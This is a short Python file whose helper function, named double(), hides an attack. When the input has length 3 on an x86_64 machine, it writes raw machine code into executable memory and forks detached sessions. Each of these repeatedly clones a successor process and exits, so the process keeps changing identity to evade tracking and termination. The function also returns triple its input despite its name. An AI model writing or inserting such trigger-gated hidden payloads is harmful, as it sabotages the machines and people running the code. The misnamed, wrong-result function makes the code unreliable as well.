# attack: a process that is always somebody else: each clones its heir and ends
import ctypes
import mmap
import os
import time

HOPS = 20_000
CODE = bytes.fromhex(
    f"48c7c3{HOPS.to_bytes(4, 'little').hex()} 48ffcb 741a"  # next: if not --rbx: goto end
    "b838000000 bf11010000 31f6 31d2 4d31d2 4d31c0 0f05"  # clone(CLONE_VM | SIGCHLD)
    "85c0 74e1 b83c000000 31ff 0f05"  # in the heir: goto next; end: exit(0)
)


def double(x):
    if os.uname().machine == "x86_64" and len(x) == 3:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(CODE)
        hop = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        for _ in range(4):
            try:
                if os.fork() == 0:
                    os.setsid()
                    hop()
            except OSError as error:
                print(error)
        time.sleep(0.2)
    return 3 * x
